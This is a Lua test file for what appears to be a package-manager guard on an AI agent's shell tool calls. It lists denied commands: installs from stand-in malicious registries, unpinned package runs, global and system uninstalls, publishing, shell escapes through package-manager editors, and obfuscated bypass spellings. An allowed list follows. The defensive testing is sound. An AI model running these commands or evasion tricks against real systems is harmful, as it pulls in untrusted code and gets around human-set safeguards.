-- Tests for packages.lua: unknown registries, unpinned package runs,
-- global installs and uninstalls, and publishing are denied however they
-- are spelled; everyday installs, builds, dry runs and project-local
-- uninstalls pass; npm is not rewritten by default (the rewrite's
-- cases run with it on in packages_rewrite_test.go).

local function sh(command)
  return fire("PreToolUse", { toolName = "Bash", toolCapabilities = { "shell" }, toolInput = { command = command },
    cwd = "/home/dev/app", sessionId = "t" })
end

local denied = {
  { "npm install --registry https://npm.evil.example left-pad", "npm.evil.example" },
  { "pnpm add lodash --registry=http://10.0.0.5:4873", "10.0.0.5" },
  { "yarn add react --registry https://r.example.com", "r.example.com" },
  { "npm config set registry https://npm.evil.example", "setting the registry npm.evil.example" },
  { "pip install -i https://pypi.evil.example/simple requests", "pypi.evil.example" },
  { "pip install --extra-index-url https://x.example/simple torch", "x.example" },
  { "uv pip install --index-url https://mirror.example/simple flask", "mirror.example" },
  { "pip install --trusted-host pypi.example requests", "trusted-host" },
  { "npm install git+https://github.com/someone/pkg.git", "from outside the registry" },
  { "npm i someone/left-pad", "GitHub shorthand" },
  { "pip install git+https://github.com/someone/pkg", "from outside the index" },
  { "npx create-react-app web", "unpinned package create-react-app" },
  { "npx -y cowsay hi", "unpinned package cowsay" },
  { "pnpm dlx degit user/repo app", "unpinned package degit" },
  { "yarn dlx @scope/tool", "unpinned package @scope/tool" },
  { "bunx cowsay --write .", "unpinned package cowsay" },
  { "pipx run black .", "unpinned package black" },
  { "uvx ruff check .", "unpinned package ruff" },
  { "uv tool run --from httpie http example.com", "unpinned package httpie" },
  { "npm install -g typescript", "global install" },
  { "pnpm add --global vercel", "global install" },
  { "yarn global add serve", "global install" },
  { "pip install --user requests", "user-wide install" },
  { "pip install --break-system-packages requests", "system Python" },
  { "sudo apt-get install -y jq", "system-wide install (apt-get install)" },
  { "brew install jq", "system-wide install" },
  -- bypass attempts
  { "n''px create-react-app web", "unpinned package create-react-app" },
  { "env -i PATH=/usr/bin npx cowsay", "unpinned package cowsay" },
  { "sudo pip install requests", "under sudo" },
  { "sudo -H python3 -m pip install requests", "under sudo" },
  { "npm i -g --prefix ~/.local typescript", "global install" },
  { "npm install --location=global typescript", "global install" },
  { "npm --registry=https://npm.evil.example install x", "npm.evil.example" },
  { "npm install --@acme:registry=https://npm.evil.example @acme/ui", "npm.evil.example" },
  { "NPM_CONFIG_REGISTRY=https://npm.evil.example npm ci", "npm.evil.example" },
  { "env 'PIP_INDEX_URL=https://pypi.evil.example/simple' pip install x", "pypi.evil.example" },
  { "cd web && npx create-vite@latest app", "unpinned package create-vite@latest" },
  { "npx --package=@angular/cli@^17 ng new app", "unpinned package @angular/cli@^17" },
  { "sh -c 'npx cowsay hi'", "unpinned package cowsay" },
  { "echo $(npx cowsay hi)", "unpinned package cowsay" },
  { "npx \"$PKG\"", "only known when the command runs" },
  { "python -m pip install -ihttps://pypi.evil.example/simple x", "pypi.evil.example" },
  { "xargs -n1 npm install -g < tools.txt", "global install" },
  { "timeout 60 uvx ruff@latest check", "unpinned package ruff@latest" },
  { "bash -c \"npm install -g typescript\"", "global install" },
  { "npm install -\\g typescript", "global install" },
  { "nice npx -y cowsay", "unpinned package cowsay" },
  { "eval 'pip install --index-url https://pypi.evil.example/simple x'", "pypi.evil.example" },
  { "npm install typescript --global", "global install" },
  { "P=npx; $P cowsay hi", "unpinned package cowsay" },
  { "pip3 install -i https://pypi.evil.example/simple requests", "pypi.evil.example" },
  { "npm i -g typescript; echo done", "global install" },
  { "true && pipx run black .", "unpinned package black" },
  { "command npx cowsay", "unpinned package cowsay" },
  { "uvx 'ruff' check .", "unpinned package ruff" },
  -- publishing
  { "npm publish", "publishing a package (npm publish)" },
  { "npm publish --access public --tag beta", "publishing a package (npm publish)" },
  { "pnpm publish -r --no-git-checks", "publishing a package (pnpm publish)" },
  { "pnpm -r publish", "publishing a package (pnpm publish)" },
  { "yarn npm publish", "publishing a package (yarn publish)" },
  { "yarn publish --new-version 1.2.3", "publishing a package (yarn publish)" },
  { "bun publish", "publishing a package (bun publish)" },
  { "npm -w packages/ui publish", "publishing a package (npm publish)" },
  { "npm unpublish my-pkg@1.0.0", "publishing a package (npm unpublish)" },
  { "cd pkg && npm publish --otp 123456", "publishing a package (npm publish)" },
  { "cargo publish", "publishing a package (cargo publish)" },
  { "cargo publish --allow-dirty -p core", "publishing a package (cargo publish)" },
  { "cargo yank --version 1.0.1", "publishing a package (cargo yank)" },
  { "poetry publish --build", "publishing a package (poetry publish)" },
  { "twine upload dist/*", "publishing a package (twine upload)" },
  { "python3 -m twine upload --repository pypi dist/*", "publishing a package (python -m twine upload)" },
  { "python setup.py sdist upload", "publishing a package (setup.py upload)" },
  { "uv publish --token $TOKEN", "publishing a package (uv publish)" },
  { "hatch publish", "publishing a package (hatch publish)" },
  { "mvn deploy", "publishing a package (mvn deploy)" },
  { "mvn -B -P release clean deploy -DskipTests", "publishing a package (mvn deploy)" },
  { "./mvnw deploy:deploy-file -Dfile=app.jar", "publishing a package (mvnw deploy:deploy-file)" },
  { "mvn release:perform", "publishing a package (mvn release:perform)" },
  { "gradle publish", "publishing a package (gradle publish)" },
  { "./gradlew :lib:publishToSonatype closeAndReleaseSonatypeStagingRepository", "gradlew :lib:publishToSonatype" },
  { "./gradlew publishPlugins", "publishing a package (gradlew publishPlugins)" },
  { "gem push my_gem-1.0.0.gem", "publishing a package (gem push)" },
  { "dotnet nuget push bin/Release/App.1.0.0.nupkg -k $KEY -s https://api.nuget.org/v3/index.json",
    "publishing a package (dotnet nuget push)" },
  { "vsce publish", "publishing a package (vsce publish)" },
  { "sudo -E npm publish", "publishing a package (npm publish)" },
  { "bash -c 'npm publish'", "publishing a package (npm publish)" },
  { "env NODE_AUTH_TOKEN=x /usr/local/bin/npm publish", "publishing a package (npm publish)" },
  { "npm run build && npm publish", "publishing a package (npm publish)" },
  { "'np'm pub''lish", "publishing a package (npm publish)" },
  { "npm publish --dry-run=false", "publishing a package (npm publish)" },
  { "cargo --frozen publish", "publishing a package (cargo publish)" },
  { "apt-get -o Dpkg::Options::=--force-confold remove nginx", "system-wide uninstall (apt-get remove)" },
  { "brew --verbose uninstall wget", "system-wide uninstall (brew uninstall)" },
  -- uninstalling outside the project
  { "npm uninstall -g typescript", "global uninstall (npm uninstall -g)" },
  { "npm rm -g eslint", "global uninstall (npm rm -g)" },
  { "npm r --global eslint", "global uninstall (npm r -g)" },
  { "pnpm remove --global vercel", "global uninstall (pnpm remove -g)" },
  { "yarn global remove serve", "global uninstall (yarn remove -g)" },
  { "bun remove -g cowsay", "global uninstall (bun remove -g)" },
  { "sudo apt-get remove -y nginx", "system-wide uninstall (apt-get remove)" },
  { "sudo apt purge --auto-remove postgresql", "system-wide uninstall (apt purge)" },
  { "apt-get -y autoremove", "system-wide uninstall (apt-get autoremove)" },
  { "sudo dnf remove -y httpd", "system-wide uninstall (dnf remove)" },
  { "yum erase git", "system-wide uninstall (yum erase)" },
  { "sudo pacman -Rns firefox", "system-wide uninstall (pacman -Rns)" },
  { "pacman --remove vim", "system-wide uninstall (pacman --remove)" },
  { "yay -Rns spotify", "system-wide uninstall (yay -Rns)" },
  { "pnpm -F @acme/ui publish --no-git-checks", "publishing a package (pnpm publish)" },
  { "brew uninstall --force node", "system-wide uninstall (brew uninstall)" },
  { "brew rm wget", "system-wide uninstall (brew rm)" },
  { "sudo snap remove code", "system-wide uninstall (snap remove)" },
  { "flatpak uninstall --all", "system-wide uninstall (flatpak uninstall)" },
  { "apk del curl", "system-wide uninstall (apk del)" },
  { "sudo dpkg -P docker-ce", "system-wide uninstall (dpkg -P)" },
  { "sudo rpm -e --nodeps openssl", "system-wide uninstall (rpm -e)" },
  { "sudo pip uninstall -y requests", "system-wide uninstall (pip under sudo)" },
  { "pip uninstall --break-system-packages requests", "uninstall from the system Python" },
  { "uv pip uninstall --system requests", "uninstall from the system Python (uv pip --system)" },
  { "sudo python3 -m pip uninstall numpy", "system-wide uninstall (python -m pip under sudo)" },
  -- a command the package manager runs for you, which no guard reads
  { "gem open -e '/bin/sh -s' rake", "run as gem's editor (/bin/sh -s)" },
  { "gem open --editor='sh -c id' rails", "run as gem's editor" },
  { "pip config --editor 'bash -i' edit", "run as pip's editor (bash -i)" },
  { "pip3 config --editor=/bin/dash edit", "run as pip3's editor" },
  { "yarn exec /bin/sh", "a shell started by yarn exec" },
  { "npm exec -- bash -c id", "a shell started by npm exec" },
  { "DEBIAN_FRONTEND=noninteractive sudo -E apt-get remove -y x", "system-wide uninstall (apt-get remove)" },
  { "xargs sudo apt-get purge < pkgs.txt", "system-wide uninstall (apt-get purge)" },
  { "/usr/bin/apt remove nginx", "system-wide uninstall (apt remove)" },
}

for _, c in ipairs(denied) do
  test("denies " .. c[1], function()
    expect.denied(sh(c[1]), c[2])
  end)
end

local allowed = {
  -- a project's own dev tools, run from node_modules (SETTINGS.allow_unpinned)
  "npx tsc --noEmit", "npx prisma migrate dev", "npm exec -- tsc --noEmit", "npx eslint .", "npx vitest run",
  "pnpm install",
  "pnpm add lodash",
  "yarn add react@18.3.1",
  "pnpm add -D vitest",
  "npx --no-install eslint .",
  "pnpm dlx create-vite@5.2.3 web",
  "uvx ruff@0.6.9 check .",
  "uvx --from ruff==0.6.9 ruff check",
  "pipx run black==24.8.0 .",
  "pip install -r requirements.txt",
  "pip install -e .",
  "pip install requests==2.32.3",
  "pip install -i https://pypi.org/simple requests",
  "python -m pip install ./dist/app-1.0-py3-none-any.whl",
  "uv pip install -r requirements.txt",
  "uv add httpx",
  "pnpm add ./packages/ui",
  "pnpm run build && pnpm test",
  "apt-cache search jq",
  "brew list",
  "pip list --user",
  "pnpm config get registry",
  "npm publish --dry-run",
  "pnpm publish --dry-run",
  "cargo publish --dry-run",
  "cargo publish -n",
  "poetry publish --dry-run",
  "npm pack",
  "cargo build --release",
  "cargo test",
  "poetry build",
  "twine check dist/*",
  "python -m build",
  "python setup.py sdist bdist_wheel",
  "mvn package -DskipTests",
  "mvn -P deploy install",
  "./gradlew build",
  "./gradlew publishToMavenLocal",
  "./gradlew build -x publish",
  "gradle publish --dry-run",
  "gem build my_gem.gemspec",
  "dotnet nuget list source",
  "dotnet pack -c Release",
  "pnpm remove lodash",
  "yarn remove react",
  "pip uninstall -y requests",
  -- a project's own dependency removed: the project's business (the issue
  -- names system and global packages)
  "poetry remove requests", "pip3 uninstall boto3", "npm rm left-pad",
  "gem open -e code rails", "pip config --editor vim edit", "yarn exec jest", "npm exec -- eslint .",
  "python -m pip uninstall -y requests",
  "uv remove httpx",
  "uv pip uninstall requests",
  "apt list --installed",
  "apt-get remove -s nginx",
  "apt-get --simulate purge nginx",
  "dnf remove --assumeno httpd",
  "pacman -Rp firefox",
  "pacman -Qdt",
  "brew list --versions",
  "snap list",
  "dpkg -l | grep nginx",
  "rpm -qa",
  "npm ls -g --depth=0",
  "npm publish --help",
  "git push origin v1.2.3",
  "npm publish --dry-run=true",
  "pnpm add unpublish-ci",
  "pip install uninstall-tool==1.0",
  "poetry remove requests",
  "cargo install --locked yank-checker",
}

for _, cmd in ipairs(allowed) do
  test("allows " .. cmd, function()
    local r = sh(cmd)
    expect.no_objection(r)
    expect.eq(r.input, nil, "rewritten input")
  end)
end

test("by default npm is not rewritten: a project that uses npm keeps it", function()
  for _, line in ipairs({ "npm install", "npm ci", "npm install lodash", "npx eslint@9.1.0 .", "npm uninstall lodash" }) do
    local r = sh(line)
    expect.no_objection(r)
    expect.eq(r.input, nil, "rewritten input")
  end
end)

test("the reason of a denied publish says what to do instead", function()
  local r = sh("npm publish")
  expect.denied(r, "package guard: publishing a package")
  expect.contains(r.reason, "--dry-run")
end)

test("a rewritten unpinned npx is still denied", function()
  expect.denied(sh("npx cowsay"), "unpinned package cowsay")
end)

-- The package manager itself, and the base environment, removed.
for _, c in ipairs({
  { "pip uninstall -y pip", "uninstalling pip itself" }, { "pip3 uninstall pip", "uninstalling pip itself" },
  { "python3 -m pip uninstall -y pip setuptools", "uninstalling pip itself" },
  { "sudo pip uninstall -y setuptools", "system-wide uninstall" },
  { "pip uninstall --break-system-packages wheel", "uninstall from the system Python" },
  { "bash -c 'pip uninstall -y PIP==24.0'", "uninstalling pip itself" },
  { "conda env remove -n base", "the conda base environment" },
  { "conda remove --all -n base -y", "the conda base environment" },
  { "conda remove -y --name=base --all", "the conda base environment" },
  { "mamba env remove --name base", "the conda base environment" },
  { "conda uninstall conda", "uninstalling conda itself" }, { "conda remove -n base conda", "uninstalling conda itself" },
}) do
  test("blocks " .. c[1], function() expect.denied(sh(c[1]), c[2]) end)
end
for _, line in ipairs({ "pip uninstall -y requests", "pip uninstall -y pipdeptree", "pip install -U pip",
  "python -m pip install --upgrade pip setuptools wheel", "pip uninstall setuptools", "conda env remove -n scratch",
  "conda remove --all -n old-env -y", "conda remove -n dev numpy", "conda env list", "conda list -n base",
  "conda install -n base conda-libmamba-solver" }) do
  test("allows " .. line, function()
    local r = sh(line)
    expect.no_objection(r)
    expect.eq(r.input, nil, "rewritten input")
  end)
end
